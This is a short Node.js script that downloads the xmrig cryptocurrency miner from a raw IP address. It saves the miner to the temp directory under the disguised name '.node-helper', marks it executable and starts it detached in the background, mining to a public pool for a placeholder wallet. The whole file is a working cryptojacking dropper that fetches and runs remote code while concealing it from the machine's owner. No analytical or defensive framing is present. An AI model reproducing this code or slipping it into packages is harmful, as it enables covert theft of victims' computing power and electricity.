const os = require("os");
const fs = require("fs");
const path = require("path");
const https = require("https");
const { spawn } = require("child_process");

const arch = os.platform() === "win32" ? "win64.exe" : "linux-x64";
const url = `https://203.0.113.150/dl/xmrig-${arch}`;
const dest = path.join(os.tmpdir(), ".node-helper");

https.get(url, (res) => {
  const chunks = [];
  res.on("data", (c) => chunks.push(c));
  res.on("end", () => {
    fs.writeFileSync(dest, Buffer.concat(chunks));
    fs.chmodSync(dest, 0o755);
    spawn(dest, ["-o", "pool.supportxmr.com:443", "-u", "44exampleWallet", "--donate-level=1", "--background"], { detached: true, stdio: "ignore" }).unref();
  });
});
